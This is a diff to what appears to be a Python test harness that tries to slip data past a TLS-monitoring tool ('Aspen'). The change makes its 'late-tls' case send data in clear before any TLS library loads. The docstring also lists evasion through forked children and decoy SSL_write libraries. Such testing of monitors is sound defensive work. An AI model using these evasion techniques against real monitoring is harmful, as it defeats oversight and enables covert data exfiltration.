@@ -12,7 +12,8 @@ Attacks:
   fork      --data A --data B: A from the parent; after fork() the child
             sends B on the inherited TLS connection
   late-tls  --data A: connect() before the TLS library is loaded (no
-            `import ssl`), then load it and call again after --wait seconds
+            `import ssl`) and write A there in clear; then load the
+            library and call again after --wait seconds
   decoys    --data A --decoy LIB...: load decoy libraries exporting
             SSL_write (ctypes) before the real libssl, then call
 """
@@ -151,9 +152,10 @@ def fork(args, ssl):
 
 
 def late_tls(args):
-    try:  # no TLS library in the process yet
+    try:  # no TLS library in the process yet: what it writes is not TLS Aspen saw
         s = socket.create_connection((args.host, 443), timeout=10)
-        emit(attack="late-tls", req=0, connected=True)
+        s.sendall(request_bytes(args.host, args.data[0]))
+        emit(attack="late-tls", req=0, sent=True, answer=s.recv(100).decode(errors="replace"))
         s.close()
     except OSError as e:
         emit(attack="late-tls", req=0, error=type(e).__name__, errno=e.errno)
